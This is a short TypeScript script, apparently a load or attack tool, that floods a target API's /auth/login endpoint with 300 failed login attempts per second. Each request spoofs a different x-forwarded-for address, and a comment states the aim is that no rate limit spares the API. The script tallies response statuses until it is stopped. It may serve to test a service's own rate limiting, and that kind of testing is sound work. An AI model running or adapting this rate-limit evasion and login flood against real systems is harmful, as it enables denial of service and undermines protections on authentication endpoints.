import { setTimeout as sleep } from 'node:timers/promises';

/**
 * How many are sent at once, again and again. Each names an account and an address of its own, so that no limit
 * spares the API the work.
 */
const AT_ONCE = 300;
const EVERY_MS = 1000;
const ADDRESSES = 250;

let sent = 0;

async function guess(url: string): Promise<number> {
  sent += 1;
  const address = [10, sent >> 16, sent >> 8, sent].map((part) => part % ADDRESSES).join('.');
  const response = await fetch(`${url}/auth/login`, {
    method: 'POST',
    headers: { 'x-forwarded-for': address },
    body: new URLSearchParams({ username: `guessed-${sent}`, password: 'a wrong password' }),
  });
  await response.arrayBuffer();
  return response.status;
}

/**
 * Sends wrong logins to the API at the given address until it is stopped. Prints a line at the start, then how often
 * each status came.
 */
async function attack(url: string): Promise<void> {
  const counts: Record<string, number> = {};
  let isStopped = false;
  process.on('SIGTERM', () => {
    isStopped = true;
  });
  process.stdout.write('\n');
  while (!isStopped) {
    const pause = sleep(EVERY_MS);
    const statuses = await Promise.all(Array.from({ length: AT_ONCE }, () => guess(url)));
    for (const status of statuses) counts[status] = (counts[status] ?? 0) + 1;
    await pause;
  }
  process.stdout.write(JSON.stringify(counts));
}

await attack(process.argv[2] ?? '');
